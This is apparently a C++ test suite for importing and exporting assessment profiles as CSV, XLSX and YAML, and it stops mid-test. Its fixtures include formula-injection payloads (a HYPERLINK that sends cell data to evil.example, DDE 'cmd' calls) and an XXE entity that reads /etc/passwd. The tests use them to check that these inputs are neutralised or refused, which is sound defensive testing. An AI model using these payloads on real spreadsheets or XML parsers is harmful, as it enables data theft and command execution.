// Profiles to and from CSV, XLSX and YAML on the built-in TR 27103 catalog: round trips without
// loss, every kind of bad input with the exact message a user sees, and 100,000-row files.

#include <gtest/gtest.h>
#include <minizip/zip.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <random>
#include <sstream>

#include "catalog/loader.hpp"
#include "core/profile.hpp"
#include "exchange/profile_table.hpp"
#include "exchange/xlsx.hpp"
#include "util/text.hpp"

namespace cyberframe::exchange {
namespace {

constexpr const char* k_framework = "iso-tr-27103-2018";

const core::Catalog& cat() {
  static const catalog::LoadResult result = catalog::load_builtin();
  return result.catalog;
}

core::Profile profile() {
  core::Profile p;
  p.name = "Current 2024";
  p.framework = k_framework;
  p.kind = core::ProfileKind::k_current;
  return p;
}

util::Budget xlsx_budget() {
  return util::Budget(import_limits(TableFormat::k_xlsx), "an XLSX workbook");
}

util::Result<std::string> read_part(std::string_view bytes, std::string_view name) {
  auto budget = xlsx_budget();
  return xlsx::read_part(bytes, name, budget);
}

ImportResult import(TableFormat format, std::string_view bytes) {
  return import_profile(cat(), profile(), core::default_scale(), format, bytes);
}

std::string read_file(const std::string& name) {
  std::ifstream in(std::string(CYBERFRAME_SOURCE_DIR) + "/tests/data/exchange/" + name,
                   std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

std::vector<std::string> messages(const ImportResult& result) {
  std::vector<std::string> out;
  for (const auto& e : result.errors) out.push_back(e.to_string());
  return out;
}

// The one error of a failed import, as a user reads it; the rows must be empty.
std::string only_error(const ImportResult& result) {
  EXPECT_TRUE(result.rows.empty());
  EXPECT_EQ(result.errors.size(), 1u) << ::testing::PrintToString(messages(result));
  return result.errors.empty() ? "" : result.errors.front().to_string();
}

const std::string k_header = "node,level,not_applicable,justification,owner,priority,notes\r\n";

std::string csv(const std::string& rows) {
  return k_header + rows;
}

core::NodeAssessment assessment(std::string node, std::optional<int> level) {
  core::NodeAssessment a;
  a.node = std::move(node);
  a.level = level;
  return a;
}

// Assessments whose text trips up naive writers and readers.
std::map<std::string, core::NodeAssessment> tricky_assessments() {
  std::map<std::string, core::NodeAssessment> out;
  auto add = [&](core::NodeAssessment a) { out[a.node] = std::move(a); };

  auto be1 = assessment("ID.BE-1", 3);
  be1.owner = "Ops, Security & \"Risk\"";
  be1.priority = 1;
  be1.notes = "line one\nline two, with a comma\r\nline three: ünïcödé, 日本語, 🚀";
  add(be1);

  auto be2 = assessment("ID.BE-2", std::nullopt);
  be2.not_applicable = true;
  be2.justification = "Out of scope: \"no critical infrastructure\", see memo 2024-03";
  be2.priority = 3;
  add(be2);

  auto be3 = assessment("ID.BE-3", 0);
  be3.owner = "  leading and trailing spaces  ";
  be3.notes = "tab\there; =SUM(A1:A2); a literal _x0041_ and _x005F_; control \x01 char; \"";
  add(be3);

  auto be4 = assessment("ID.BE-4", 5);
  be4.owner = "null";
  be4.notes = "~";
  be4.justification = "yes";  // a justification without N/A is kept
  add(be4);

  auto be5 = assessment("ID.BE-5", std::nullopt);  // an owner, no level yet
  be5.owner = "Alice";
  add(be5);

  auto be = assessment("ID.BE", std::nullopt);  // a category: an owner, never a level
  be.owner = "Business office";
  add(be);
  add(assessment("RC.CO-3", 1));  // the last node

  auto am1 = assessment("ID.AM-1", 4);
  am1.notes = ",\"\",\r\n\r\n\"";
  add(am1);

  // Text a spreadsheet would run as a formula, and apostrophes of the writer's own.
  auto am2 = assessment("ID.AM-2", 2);
  am2.owner = "@SUM(A1:A9)";
  am2.notes = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  am2.justification = "+cmd|' /C calc'!A0";
  add(am2);
  auto am3 = assessment("ID.AM-3", 1);
  am3.owner = "-1";
  am3.notes = "'already quoted";
  am3.justification = "'=1+1";
  add(am3);
  auto am4 = assessment("ID.AM-4", std::nullopt);
  am4.owner = "'";
  am4.notes = "\t=tab first";
  add(am4);
  return out;
}

// import(export(x)) == x, field by field, in document order.
void expect_round_trip(TableFormat format) {
  auto original = tricky_assessments();
  auto bytes = export_profile(cat(), profile(), original, format);
  ASSERT_FALSE(bytes.empty());
  auto result = import(format, bytes);
  ASSERT_TRUE(result.errors.empty()) << ::testing::PrintToString(messages(result));
  ASSERT_EQ(result.rows.size(), original.size());

  std::vector<std::string> expected_order;
  for (const auto* n : cat().nodes_in_order(k_framework)) {
    if (original.count(n->id)) expected_order.push_back(n->id);
  }
  for (std::size_t i = 0; i < result.rows.size(); ++i) {
    const auto& got = result.rows[i];
    ASSERT_EQ(got.node, expected_order[i]);
    const auto& want = original.at(got.node);
    EXPECT_EQ(got.level, want.level) << got.node;
    EXPECT_EQ(got.not_applicable, want.not_applicable) << got.node;
    EXPECT_EQ(got.justification, want.justification) << got.node;
    EXPECT_EQ(got.owner, want.owner) << got.node;
    EXPECT_EQ(got.priority, want.priority) << got.node;
    EXPECT_EQ(got.notes, want.notes) << got.node;
  }
}

// A zip archive of the given parts, written with minizip.
std::string make_zip(const std::vector<std::pair<std::string, std::string>>& parts) {
  auto path = (std::filesystem::temp_directory_path() / "cyberframe-test-XXXXXX").string();
  int fd = mkstemp(path.data());
  EXPECT_GE(fd, 0);
  close(fd);
  zipFile zf = zipOpen64(path.c_str(), APPEND_STATUS_CREATE);
  EXPECT_NE(zf, nullptr);
  for (const auto& [name, content] : parts) {
    zipOpenNewFileInZip(zf, name.c_str(), nullptr, nullptr, 0, nullptr, 0, nullptr, Z_DEFLATED,
                        Z_DEFAULT_COMPRESSION);
    zipWriteInFileInZip(zf, content.data(), static_cast<unsigned>(content.size()));
    zipCloseFileInZip(zf);
  }
  zipClose(zf, nullptr);
  std::ifstream in(path, std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  std::filesystem::remove(path);
  return out.str();
}

const std::string k_sheet_open =
    R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>)"
    R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>)";
const std::string k_sheet_close = "</sheetData></worksheet>";

// A workbook made of a sheet1.xml (and optionally sharedStrings.xml), without workbook.xml: the
// reader falls back to the conventional part names.
std::string make_xlsx(const std::string& sheet_data, const std::string& shared_strings = "") {
  std::vector<std::pair<std::string, std::string>> parts = {
      {"xl/worksheets/sheet1.xml", k_sheet_open + sheet_data + k_sheet_close}};
  if (!shared_strings.empty()) {
    parts.emplace_back(
        "xl/sharedStrings.xml",
        R"(<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">)" +
            shared_strings + "</sst>");
  }
  return make_zip(parts);
}

std::string inline_cell(const std::string& ref, const std::string& text) {
  return "<c r=\"" + ref + "\" t=\"inlineStr\"><is><t>" + text + "</t></is></c>";
}

// ------------------------------------------------------------------------------------------------

TEST(ExchangeFormat, FromPathByExtension) {
  EXPECT_EQ(format_from_path("profile.csv"), TableFormat::k_csv);
  EXPECT_EQ(format_from_path("/tmp/Profile.XLSX"), TableFormat::k_xlsx);
  EXPECT_EQ(format_from_path("p.yaml"), TableFormat::k_yaml);
  EXPECT_EQ(format_from_path("p.yml"), TableFormat::k_yaml);
  EXPECT_EQ(format_from_path("p.xls"), std::nullopt);
  EXPECT_EQ(format_from_path("csv"), std::nullopt);
}

TEST(ExchangeFormat, RowErrorNamesRowAndColumn) {
  EXPECT_EQ((RowError{12, "level", "bad"}).to_string(), "row 12, column level: bad");
  EXPECT_EQ((RowError{3, "", "bad"}).to_string(), "row 3: bad");
  EXPECT_EQ((RowError{0, "framework", "bad"}).to_string(), "column framework: bad");
  EXPECT_EQ((RowError{0, "", "bad"}).to_string(), "bad");
}

// ---------------------------------------------------------------------------------- round trips

TEST(ExchangeRoundTrip, Csv) {
  expect_round_trip(TableFormat::k_csv);
}
TEST(ExchangeRoundTrip, Xlsx) {
  expect_round_trip(TableFormat::k_xlsx);
}
TEST(ExchangeRoundTrip, Yaml) {
  expect_round_trip(TableFormat::k_yaml);
}

TEST(ExchangeRoundTrip, NothingAssessedGivesNoRows) {
  for (auto format : {TableFormat::k_csv, TableFormat::k_xlsx, TableFormat::k_yaml}) {
    auto result = import(format, export_profile(cat(), profile(), {}, format));
    EXPECT_TRUE(result.errors.empty()) << ::testing::PrintToString(messages(result));
    EXPECT_TRUE(result.rows.empty());
  }
}

TEST(ExchangeExport, CsvHasEveryNodeInDocumentOrderWithTheReadOnlyColumns) {
  std::map<std::string, core::NodeAssessment> one = {{"ID.BE-1", assessment("ID.BE-1", 3)}};
  auto text = export_profile(cat(), profile(), one, TableFormat::k_csv);
  auto order = cat().nodes_in_order(k_framework);
  // A UTF-8 BOM (Excel then reads the file as UTF-8), the header, one CRLF-ended row per node.
  ASSERT_TRUE(text.starts_with(
      "\xEF\xBB\xBFnode,title,description,level,not_applicable,justification,owner,priority,"
      "notes\r\nID,Identify,"));
  std::size_t lines = 0;
  for (std::size_t at = 0; (at = text.find("\r\n", at)) != std::string::npos; at += 2) ++lines;
  EXPECT_EQ(lines, order.size() + 1);
  EXPECT_NE(text.find("\r\nID.BE-1,,The organization's role in the supply chain is identified "
                      "and communicated,3,,,,2,\r\n"),
            std::string::npos);
  EXPECT_NE(text.find("\r\nID.BE-2,,The organization's place in critical infrastructure and its "
                      "industry sector is identified and communicated,,,,,,\r\n"),
            std::string::npos);
}

// Issue 10: a cell a spreadsheet would run as a formula is written with an apostrophe in front,
// and only such cells (numbers stay numbers).
TEST(ExchangeExport, CsvCellsNeverStartAFormula) {
  auto a = assessment("ID.BE-1", 3);
  a.owner = "@SUM(A1:A9)";
  a.notes = "=HYPERLINK(\"http://evil.example\",\"click\")";
  a.justification = "-2+3";
  std::map<std::string, core::NodeAssessment> one = {{"ID.BE-1", a}};
  auto text = export_profile(cat(), profile(), one, TableFormat::k_csv);
  EXPECT_NE(text.find(",3,,'-2+3,'@SUM(A1:A9),2,\"'=HYPERLINK(\"\"http://"
                      "evil.example\"\",\"\"click\"\")\"\r\n"),
            std::string::npos)
      << text.substr(0, 600);
  // No cell of the file starts with a formula character, but for plain numbers.
  auto body = text.substr(3);
  for (std::size_t at = 0; at < body.size();) {
    auto end = body.find("\r\n", at);
    for (const auto& cell : util::split(body.substr(at, end - at), ',')) {
      if (!cell.empty() && std::string_view("=+-@").find(cell[0]) != std::string_view::npos) {
        EXPECT_EQ(cell.find_first_not_of("+-0123456789."), std::string::npos) << cell;
      }
    }
    at = end + 2;
  }
  // A file from elsewhere with an apostrophe of its own keeps it unless a formula follows.
  auto result = import(TableFormat::k_csv, csv("ID.BE-1,3,,,'Alice,,'=not a formula\r\n"));
  ASSERT_TRUE(result.errors.empty()) << ::testing::PrintToString(messages(result));
  EXPECT_EQ(result.rows[0].owner, "'Alice");
  EXPECT_EQ(result.rows[0].notes, "=not a formula");
}

TEST(ExchangeExport, GapTableCellsNeverStartAFormula) {
  core::GapAnalysis gaps;
  core::Gap g;
  g.node = "ID.BE-1";
  g.target = 3;
  g.gap = 3;
  g.score = 6;
  g.owner = "=cmd|' /C calc'!A0";
  gaps.subcategories.push_back(g);
  auto text = export_gaps(cat(), gaps, TableFormat::k_csv);
  EXPECT_NE(text.find(",'=cmd|' /C calc'!A0,6\r\n"), std::string::npos) << text;
}

TEST(ExchangeCsvErrors, AnOwnerIsOneLineOfVisibleText) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,3,,,\"Ops\u202E\",,\r\n"))),
            "row 2, column owner: the owner of ID.BE-1 contains the bidirectional control U+202E "
            "RIGHT-TO-LEFT OVERRIDE at character 4, which can make text display as something it "
            "is not");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,3,,,\"Ops\nteam\",,\r\n"))),
            "row 2, column owner: the owner of ID.BE-1 contains a control character (U+000A) at "
            "character 4; it must be one line of visible text");
}

TEST(ExchangeExport, XlsxHasAFormattedHeaderAndEveryNode) {
  auto bytes = export_profile(cat(), profile(), tricky_assessments(), TableFormat::k_xlsx);
  std::vector<xlsx::Row> rows;
  auto budget = xlsx_budget();
  auto read = xlsx::read_first_sheet(bytes, budget, [&](const xlsx::Row& r) {
    rows.push_back(r);
    return true;
  });
  ASSERT_TRUE(read) << read.error().message;
  ASSERT_EQ(rows.size(), cat().nodes_in_order(k_framework).size() + 1);
  std::vector<std::string> header;
  for (const auto& c : rows[0].cells) header.push_back(c.text);
  EXPECT_EQ(header,
            (std::vector<std::string>{"node", "title", "description", "level", "not_applicable",
                                      "justification", "owner", "priority", "notes"}));
  auto sheet = read_part(bytes, "xl/worksheets/sheet1.xml");
  ASSERT_TRUE(sheet);
  EXPECT_NE(sheet->find(R"(state="frozen")"), std::string::npos);         // header frozen
  EXPECT_NE(sheet->find(R"(<autoFilter ref="A1:I)"), std::string::npos);  // with a filter
  EXPECT_NE(sheet->find(R"(<col min="3" max="3" width=)"), std::string::npos);
  auto styles = read_part(bytes, "xl/styles.xml");
  ASSERT_TRUE(styles);
  EXPECT_NE(styles->find("<b/>"), std::string::npos);  // bold header
}

TEST(ExchangeExport, YamlNamesProfileFrameworkAndKind) {
  auto text = export_profile(cat(), profile(), {{"ID.BE-1", assessment("ID.BE-1", 3)}},
                             TableFormat::k_yaml);
  EXPECT_TRUE(
      text.starts_with("profile: \"Current 2024\"\nframework: iso-tr-27103-2018\n"
                       "kind: current\nnodes:\n  - node: ID\n"))
      << text;
  EXPECT_NE(text.find("  - node: ID.BE-1\n    level: 3\n    priority: 2\n"), std::string::npos)
      << text;
}

// ------------------------------------------------------------------------------- reading files

TEST(ExchangeCsv, ReadsAnExcelStyleFile) {
  // BOM, CRLF, headers in another order and case, a quoted newline, title ignored, 5.0, FALSE.
  auto result = import(TableFormat::k_csv, read_file("excel-export.csv"));
  ASSERT_TRUE(result.errors.empty()) << ::testing::PrintToString(messages(result));
  ASSERT_EQ(result.rows.size(), 3u);  // ID.BE-3 has nothing filled in
  EXPECT_EQ(result.rows[0].node, "ID.BE-1");
  EXPECT_EQ(result.rows[0].level, 3);
  EXPECT_EQ(result.rows[0].notes,
            "Reviewed with the supply-chain team;\r\nsee \"Supplier register\", v2");
  EXPECT_EQ(result.rows[0].owner, "Procurement");
  EXPECT_TRUE(result.rows[1].not_applicable);
  EXPECT_EQ(result.rows[1].justification,
            "No critical infrastructure, per the 2024 scope statement");
  EXPECT_EQ(result.rows[2].node, "ID.AM-1");
  EXPECT_EQ(result.rows[2].level, 5);
  EXPECT_FALSE(result.rows[2].not_applicable);
  EXPECT_EQ(result.rows[2].priority, 2);
}

TEST(ExchangeCsv, HeaderOnlyImportsNothingWithoutError) {
  for (std::string text :
       {std::string("node,level\n"), std::string("\xEF\xBB\xBFnode,level"), k_header}) {
    auto result = import(TableFormat::k_csv, text);
    EXPECT_TRUE(result.errors.empty()) << ::testing::PrintToString(messages(result));
    EXPECT_TRUE(result.rows.empty());
  }
}

TEST(ExchangeCsv, AcceptsTheSpelledOutValues) {
  auto result = import(TableFormat::k_csv, csv("ID.BE-1,,TRUE,Not ours,,HIGH,\n"
                                               "ID.BE-2,2,no,,,low,\n"
                                               "ID.BE-3, 4 ,0,,,Medium,\n"
                                               "ID.BE-4,,1,Outsourced,,1,\n"));
  ASSERT_TRUE(result.errors.empty()) << ::testing::PrintToString(messages(result));
  ASSERT_EQ(result.rows.size(), 4u);
  EXPECT_TRUE(result.rows[0].not_applicable);
  EXPECT_EQ(result.rows[0].priority, 1);
  EXPECT_EQ(result.rows[1].priority, 3);
  EXPECT_EQ(result.rows[2].level, 4);
  EXPECT_EQ(result.rows[2].priority, 2);
  EXPECT_TRUE(result.rows[3].not_applicable);
}

// ------------------------------------------------------------------------------ bad CSV input

TEST(ExchangeCsvErrors, UnknownNode) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("XX.YY-1,3,,,,,\r\n"))),
            "row 2, column node: unknown node 'XX.YY-1' in framework iso-tr-27103-2018");
  // Also when nothing else is filled in.
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "node,level\nID.BE-1,\nXX.YY-1,\n")),
            "row 3, column node: unknown node 'XX.YY-1' in framework iso-tr-27103-2018");
}

TEST(ExchangeCsvErrors, LevelOutsideTheScale) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,9,,,,,\r\n"))),
            "row 2, column level: level 9 of ID.BE-1 is outside the scale cyberframe-0-5 (0-5)");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,-1,,,,,\r\n"))),
            "row 2, column level: level -1 of ID.BE-1 is outside the scale cyberframe-0-5 (0-5)");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,99999999999,,,,,\r\n"))),
            "row 2, column level: level '99999999999' is outside the scale cyberframe-0-5 (0 to "
            "5)");
}

TEST(ExchangeCsvErrors, LevelNotANumber) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,abc,,,,,\r\n"))),
            "row 2, column level: level 'abc' is not a whole number; the scale cyberframe-0-5 "
            "runs from 0 to 5 (leave the cell empty when not assessed)");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,2.5,,,,,\r\n"))),
            "row 2, column level: level '2.5' is not a whole number; the scale cyberframe-0-5 "
            "runs from 0 to 5 (leave the cell empty when not assessed)");
}

TEST(ExchangeCsvErrors, NotApplicableRules) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,,yes,,,,\r\n"))),
            "row 2, column justification: ID.BE-1 is marked not applicable without a "
            "justification; say why it does not apply");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,,yes,   ,,,\r\n"))),
            "row 2, column justification: ID.BE-1 is marked not applicable without a "
            "justification; say why it does not apply");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,2,yes,Because,,,\r\n"))),
            "row 2, column not_applicable: ID.BE-1 is marked not applicable and has a level; "
            "give one or the other");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,,maybe,,,,\r\n"))),
            "row 2, column not_applicable: not_applicable 'maybe' is not true/yes/1 or "
            "false/no/0 (or empty)");
}

TEST(ExchangeCsvErrors, BadPriority) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,1,,,,urgent,\r\n"))),
            "row 2, column priority: priority 'urgent' is not 1 (high), 2 (medium) or 3 (low); "
            "leave it empty for 2");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,1,,,,4,\r\n"))),
            "row 2, column priority: priority 4 of ID.BE-1 is not 1 (high), 2 (medium) or 3 "
            "(low)");
}

TEST(ExchangeCsvErrors, DuplicateRowNamesTheFirst) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv,
                              csv("ID.BE-1,1,,,,,\r\nID.BE-2,1,,,,,\r\n ID.BE-1 ,2,,,,,\r\n"))),
            "row 4, column node: node ID.BE-1 appears again; its first row is row 2");
}

TEST(ExchangeCsvErrors, EmptyNodeWithContent) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv(",3,,,,,\r\n"))),
            "row 2, column node: the node is empty; every row needs the id of a node of "
            "iso-tr-27103-2018");
  // A row of empty cells is skipped, as is a blank line, whatever the number of cells.
  auto result = import(TableFormat::k_csv, csv(",,,,,,\r\n\r\n, ,\r\nID.BE-1,3,,,,,\r\n"));
  EXPECT_TRUE(result.errors.empty());
  EXPECT_EQ(result.rows.size(), 1u);
}

TEST(ExchangeCsvErrors, HeaderProblems) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "node,level,colour\r\nID.BE-1,3,red\r\n")),
            "row 1, column colour: unknown column 'colour'; the columns are node, title, "
            "description, level, not_applicable, justification, owner, priority, notes");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "node,owner\r\nID.BE-1,Alice\r\n")),
            "row 1, column level: missing column 'level'; the header must name at least node and "
            "level");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "node,level,Level\r\n")),
            "row 1, column level: column 'level' appears twice in the header (columns 2 and 3)");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "node,level,\r\n")),
            "row 1: column 3 of the header has no name; name it (one of: node, title, "
            "description, level, not_applicable, justification, owner, priority, notes) or delete "
            "the column");
}

TEST(ExchangeCsvErrors, RaggedRow) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "node,level\nID.BE-1,3\nID.BE-2,3,Alice\n")),
            "row 3: the row has 3 cells but the header has 2 (a cell that contains a comma must "
            "be quoted)");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "node,level,owner\nID.BE-1,3\n")),
            "row 2: the row has 2 cells but the header has 3 (a cell that contains a comma must "
            "be quoted)");
}

TEST(ExchangeCsvErrors, UnterminatedQuoteSaysWhereItStarts) {
  EXPECT_EQ(only_error(import(TableFormat::k_csv,
                              "node,level,notes\r\n"
                              "ID.BE-1,3,\"fine,\r\nquoted\"\r\n"
                              "ID.BE-2,3,\"never closed\r\n"
                              "ID.BE-3,2,x\r\n")),
            "row 3, column notes: unterminated quote: the quoted field that starts in this row "
            "is never closed");
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "node,\"level\n")),
            "row 1: unterminated quote: the quoted field that starts in this row is never closed");
  EXPECT_EQ(only_error(import(TableFormat::k_csv,
                              "node,level,notes\n"
                              "ID.BE-1,3,\"quoted\"then text\n")),
            "row 2, column notes: malformed quoted field: text follows the closing quote (inside "
            "a quoted field, write a quote as \"\")");
}

TEST(ExchangeCsvErrors, NotUtf8) {
  // "node,level\r\n" is 12 bytes, "ID.BE-1,3\r\n" 11, "ID.BE-2," 8: the bad byte is at 31.
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "node,level\r\nID.BE-1,3\r\nID.BE-2,\xFF\r\n")),
            "the file is not UTF-8 text: byte 0xFF on line 3 (offset 31) is invalid; save the "
            "file as \"CSV UTF-8\"");
  // Latin-1 "é" and a NUL byte are not UTF-8 either.
  EXPECT_FALSE(import(TableFormat::k_csv, csv("ID.BE-1,3,,,Andr\xE9,,\n")).errors.empty());
  EXPECT_FALSE(
      import(TableFormat::k_csv, csv(std::string("ID.BE-1,3,,,A\0B,,\n", 20))).errors.empty());
}

TEST(ExchangeCsvErrors, EmptyFile) {
  const std::string expected =
      "the file is empty; expected a header row naming the columns (node, title, description, "
      "level, not_applicable, justification, owner, priority, notes)";
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "")), expected);
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "\xEF\xBB\xBF")), expected);
  EXPECT_EQ(only_error(import(TableFormat::k_csv, "\r\n\r\n")), expected);
}

TEST(ExchangeCsvErrors, AllOrNothingAndEveryBadRowReported) {
  auto result = import(TableFormat::k_csv, csv("ID.BE-1,3,,,,,\r\n"
                                               "ID.BE-2,9,,,,,\r\n"
                                               "ID.BE-3,2,,,,,\r\n"
                                               "XX-1,2,,,,,\r\n"
                                               "ID.BE-4,,yes,,,,\r\n"));
  EXPECT_TRUE(result.rows.empty());
  EXPECT_EQ(messages(result),
            (std::vector<std::string>{
                "row 3, column level: level 9 of ID.BE-2 is outside the scale cyberframe-0-5 (0-5)",
                "row 5, column node: unknown node 'XX-1' in framework iso-tr-27103-2018",
                "row 6, column justification: ID.BE-4 is marked not applicable without a "
                "justification; say why it does not apply"}));
}

TEST(ExchangeCsvErrors, TooManyRows) {
  std::string text = "node,level\n";
  for (int i = 0; i < 200001; ++i) text += ",\n";  // empty rows: no other error stops it first
  EXPECT_EQ(only_error(import(TableFormat::k_csv, text)),
            "too many rows: a profile file holds at most 200000 rows (one per node)");
  text.resize(text.size() - 2);  // exactly 200,000 rows
  EXPECT_TRUE(import(TableFormat::k_csv, text).errors.empty());
}

TEST(ExchangeErrors, UnknownFrameworkOfTheProfile) {
  auto p = profile();
  p.framework = "no-such-framework";
  auto result = import_profile(cat(), p, core::default_scale(), TableFormat::k_csv, "node,level\n");
  EXPECT_EQ(only_error(result), "unknown framework 'no-such-framework' of profile 'Current 2024'");
}

// ------------------------------------------------------------------------------------------ XLSX

TEST(ExchangeXlsx, ReadsInlineAndSharedStringsNumbersBooleansAndGaps) {
  // Header: node in A, level in C, not_applicable in D, notes in F (B and E have no header).
  // Cells are placed by reference, not by position; row 3 is missing; a cell has no reference.
  std::string shared =
      "<si><t>node</t></si>"
      "<si><r><t>le</t></r><r><rPr><b/></rPr><t>vel</t></r></si>"
      "<si><t xml:space=\"preserve\"> two\nlines _x000D_ and _x005F_x0041_</t></si>"
      "<si><t>ID.BE-2</t><rPh><t>ignored phonetic</t></rPh></si>";
  std::string rows =
      R"(<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c>)" +
      inline_cell("D1", "Not_Applicable") + inline_cell("F1", "notes") +
      inline_cell("G1", "justification") + "</row>" + R"(<row r="2">)" +
      inline_cell("A2", "ID.BE-1") +
      R"(<c r="C2"><v>3.0</v></c><c r="F2" t="s"><v>2</v></c></row>)" +
      R"(<row r="4"><c r="A4" t="s"><v>0</v></c><c r="C4" s="1"/></row>)" +  // "node": unknown node
      R"(<row r="5"><c r="A5" t="s"><v>3</v></c><c r="D5" t="b"><v>1</v></c><c t="inlineStr"><is><t>Not ours</t></is></c></row>)" +
      R"(<row r="6">)" + inline_cell("A6", "ID.BE-3") + R"(<c r="C6" t="n"><v>2</v></c></row>)";
  // The cell without a reference in row 5 follows D5: it is E5, a column without a header.
  auto result = import(TableFormat::k_xlsx, make_xlsx(rows, shared));
  EXPECT_EQ(messages(result),
            (std::vector<std::string>{
                "row 4, column node: unknown node 'node' in framework iso-tr-27103-2018",
                "row 5: cell E5 has a value, but its column has no header"}));

  // Without the bad rows (and with G5 instead of E5), everything reads.
  rows = R"(<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c>)" +
         inline_cell("D1", "Not_Applicable") + inline_cell("F1", "notes") +
         inline_cell("G1", "justification") + "</row>" + R"(<row r="2">)" +
         inline_cell("A2", "ID.BE-1") +
         R"(<c r="C2"><v>3.0</v></c><c r="F2" t="s"><v>2</v></c></row>)" +
         R"(<row r="5"><c r="A5" t="s"><v>3</v></c><c r="D5" t="b"><v>1</v></c>)" +
         inline_cell("G5", "Not ours") + "</row>" + R"(<row r="6">)" +
         inline_cell("A6", "ID.BE-3") + R"(<c r="C6" t="n"><v>2</v></c></row>)";
  result = import(TableFormat::k_xlsx, make_xlsx(rows, shared));
  ASSERT_TRUE(result.errors.empty()) << ::testing::PrintToString(messages(result));
  ASSERT_EQ(result.rows.size(), 3u);
  EXPECT_EQ(result.rows[0].node, "ID.BE-1");
  EXPECT_EQ(result.rows[0].level, 3);
  EXPECT_EQ(result.rows[0].notes, " two\nlines \r and _x0041_");
  EXPECT_EQ(result.rows[1].node, "ID.BE-2");
  EXPECT_TRUE(result.rows[1].not_applicable);
  EXPECT_EQ(result.rows[1].justification, "Not ours");
  EXPECT_EQ(result.rows[2].level, 2);
}

TEST(ExchangeXlsx, ErrorsUseTheSheetsRowNumbers) {
  std::string rows = R"(<row r="1">)" + inline_cell("A1", "node") + inline_cell("B1", "level") +
                     "</row>" + R"(<row r="7">)" + inline_cell("A7", "ID.BE-1") +
                     R"(<c r="B7"><v>9</v></c></row>)";
  EXPECT_EQ(only_error(import(TableFormat::k_xlsx, make_xlsx(rows))),
            "row 7, column level: level 9 of ID.BE-1 is outside the scale cyberframe-0-5 (0-5)");
}

TEST(ExchangeXlsxErrors, CorruptZip) {
  std::mt19937 random(27103);
  std::string bytes(4096, '\0');
  for (auto& b : bytes) b = static_cast<char>(random() & 0xFF);
  EXPECT_EQ(only_error(import(TableFormat::k_xlsx, bytes)),
            "not an XLSX workbook: the file is not a zip archive, or the archive is corrupt");
  // A real workbook cut in half.
  auto good = export_profile(cat(), profile(), tricky_assessments(), TableFormat::k_xlsx);
  EXPECT_FALSE(import(TableFormat::k_xlsx, good.substr(0, good.size() / 2)).errors.empty());
  EXPECT_EQ(only_error(import(TableFormat::k_xlsx, "")),
            "the file is empty; expected an XLSX workbook");
}

TEST(ExchangeXlsxErrors, MissingOrEmptySheet) {
  EXPECT_EQ(only_error(import(TableFormat::k_xlsx, make_zip({{"hello.txt", "hello"}}))),
            "not an XLSX workbook: it has no first worksheet (xl/worksheets/sheet1.xml is "
            "missing)");
  EXPECT_EQ(only_error(import(TableFormat::k_xlsx, make_xlsx(""))),
            "the first sheet is empty; expected a header row naming the columns (node, title, "
            "description, level, not_applicable, justification, owner, priority, notes)");
}

TEST(ExchangeXlsxErrors, DoctypeAndEntitiesAreRefused) {
  const std::string doctype =
      R"(<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>)"
      R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>)"
      R"(<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>)";
  EXPECT_EQ(
      only_error(import(TableFormat::k_xlsx, make_zip({{"xl/worksheets/sheet1.xml", doctype}}))),
      "the part xl/worksheets/sheet1.xml has a DOCTYPE declaration; XLSX files never need "
      "one, and it is refused because it can declare entities");
  // The same in UTF-16, where a byte search cannot see it: libxml2 reports the DOCTYPE node.
  std::string utf16 = "\xFF\xFE";
  std::string declared = doctype;
  declared.insert(19, " encoding=\"UTF-16\"");
  for (char c : declared) {
    utf16 += c;
    utf16 += '\0';
  }
  EXPECT_EQ(
      only_error(import(TableFormat::k_xlsx, make_zip({{"xl/worksheets/sheet1.xml", utf16}}))),
      "the part xl/worksheets/sheet1.xml has a DOCTYPE declaration; XLSX files never need "
      "one, and it is refused because it can declare entities");
  // In the shared strings too.
  EXPECT_EQ(
